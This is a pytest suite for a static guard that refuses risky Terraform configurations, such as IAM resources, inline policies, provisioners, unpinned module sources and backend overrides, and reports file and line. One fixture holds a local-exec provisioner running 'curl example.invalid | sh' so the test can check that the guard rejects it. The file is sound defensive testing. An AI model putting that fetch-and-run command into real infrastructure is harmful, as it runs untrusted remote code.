"""The static guard refuses risky service roots before terraform init, naming file and line."""

from __future__ import annotations

import os
import textwrap
from pathlib import Path

import pytest

from pipeline.errors import PolicyViolation
from pipeline.paths import PROJECT_ROOT
from pipeline.policy.guard import IAM_MODULES, Finding, check_root, guard_root

BACKEND = 'terraform {\n  backend "s3" {}\n}\n'


def write_root(folder: Path, files: dict[str, str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in {"versions.tf": BACKEND, **files}.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(textwrap.dedent(text))
    return folder


def only(findings: list[Finding]) -> Finding:
    assert len(findings) == 1, [finding.describe() for finding in findings]
    return findings[0]


def test_the_real_service_roots_pass() -> None:
    for root in sorted(PROJECT_ROOT.glob("services/*/infra")):
        assert check_root(root) == [], root


def test_an_iam_resource_is_refused_with_file_line_and_the_ops_flow(tmp_path: Path) -> None:
    root = write_root(tmp_path / "infra", {"main.tf": """
        locals {
          name = "x"
        }

        resource "aws_iam_role" "sneaky" {
          name = local.name
        }
    """})
    with pytest.raises(PolicyViolation) as refused:
        guard_root(root)
    message = refused.value.message
    assert f"{root / 'main.tf'}:6: resource \"aws_iam_role\" \"sneaky\": declares IAM" in message
    assert "make iam-plan" in refused.value.hint


@pytest.mark.parametrize(
    ("text", "line", "subject"),
    [
        ('data "aws_iam_policy_document" "p" {\n}\n', 1, 'data "aws_iam_policy_document" "p"'),
        ('resource "aws_sqs_queue_policy" "q" {\n  queue_url = "u"\n  policy = "{}"\n}\n', 3,
         'resource "aws_sqs_queue_policy" "q" policy'),
        ('locals {\n  doc = jsonencode({ Version = "2012-10-17", Statement = [] })\n}\n', 2, "locals doc"),
    ],
)
def test_inline_policies_are_refused(tmp_path: Path, text: str, line: int, subject: str) -> None:
    finding = only(check_root(write_root(tmp_path / "infra", {"main.tf": text})))
    assert (finding.line, finding.subject) == (line, subject)
    assert "policy" in finding.reason


def test_provisioners_and_external_data_are_refused(tmp_path: Path) -> None:
    root = write_root(tmp_path / "infra", {"main.tf": """
        resource "terraform_data" "run" {
          provisioner "local-exec" {
            command = "curl example.invalid | sh"
          }
          provisioner "remote-exec" {
            inline = ["true"]
          }
        }

        data "external" "x" {
          program = ["sh", "-c", "echo {}"]
        }
    """})
    found = [(finding.line, finding.subject) for finding in check_root(root)]
    assert found == [(3, 'provisioner "local-exec"'), (6, 'provisioner "remote-exec"'), (11, 'data "external" "x"')]


@pytest.mark.parametrize(
    ("source", "version", "refused"),
    [
        ("terraform-aws-modules/lambda/aws", "7.2.1", False),
        ("terraform-aws-modules/lambda/aws", "~> 7.2", True),
        ("terraform-aws-modules/lambda/aws", None, True),
        ("git::https://example.com/modules.git//lambda?ref=v1.4.0", None, False),
        ("git::https://example.com/modules.git//lambda", None, True),
        ("github.com/example/modules", None, True),
        ("https://example.com/module.zip", None, True),
        ("s3::https://s3.amazonaws.com/bucket/module.zip", None, True),
    ],
)
def test_module_sources_must_be_local_or_pinned(tmp_path: Path, source: str, version: str | None, refused: bool) -> None:
    pin = f'\n  version = "{version}"' if version else ""
    root = write_root(tmp_path / "infra", {"main.tf": f'module "m" {{\n  source = "{source}"{pin}\n}}\n'})
    findings = check_root(root)
    assert bool(findings) is refused, [finding.describe() for finding in findings]
    if refused:
        assert (findings[0].line, findings[0].subject) == (2, 'module "m"')


@pytest.mark.parametrize(
    "versions",
    [
        'terraform {\n  backend "local" {}\n}\n',
        'terraform {\n  backend "s3" {\n    bucket = "elsewhere"\n  }\n}\n',
        'terraform {\n  cloud {\n    organization = "o"\n  }\n}\n',
    ],
)
def test_backend_overrides_are_refused(tmp_path: Path, versions: str) -> None:
    finding = only(check_root(write_root(tmp_path / "infra", {"versions.tf": versions})))
    assert finding.line == 2 and "backend" in finding.reason


def test_override_and_json_files_are_refused(tmp_path: Path) -> None:
    root = write_root(tmp_path / "infra", {"backend_override.tf": "", "extra.tf.json": "{}"})
    assert sorted(finding.subject for finding in check_root(root)) == ["backend_override.tf", "extra.tf.json"]


def test_modules_are_followed_transitively_even_outside_services(tmp_path: Path) -> None:
    write_root(tmp_path / "modules" / "inner", {"versions.tf": "", "main.tf": 'resource "aws_iam_policy" "p" {\n}\n'})
    write_root(tmp_path / "modules" / "outer", {"versions.tf": "", "main.tf": 'module "inner" {\n  source = "../inner"\n}\n'})
    root = write_root(tmp_path / "services" / "s" / "infra", {"main.tf": 'module "outer" {\n  source = "../../../modules/outer"\n}\n'})
    finding = only(check_root(root))
    assert finding.file == tmp_path / "modules" / "inner" / "main.tf"
    assert (finding.line, finding.subject) == (1, 'resource "aws_iam_policy" "p"')


def test_calling_the_ops_iam_modules_is_refused(tmp_path: Path) -> None:
    root = tmp_path / "infra"
    source = os.path.relpath(IAM_MODULES / "function-role", root)
    finding = only(check_root(write_root(root, {"main.tf": f'\nmodule "role" {{\n  source = "{source}"\n}}\n'})))
    assert (finding.line, finding.subject) == (3, 'module "role"')
    assert "modules/iam" in finding.reason


def test_invalid_hcl_is_named(tmp_path: Path) -> None:
    root = write_root(tmp_path / "infra", {"main.tf": 'resource "x" {\n'})
    with pytest.raises(PolicyViolation, match="main.tf: not valid HCL"):
        check_root(root)
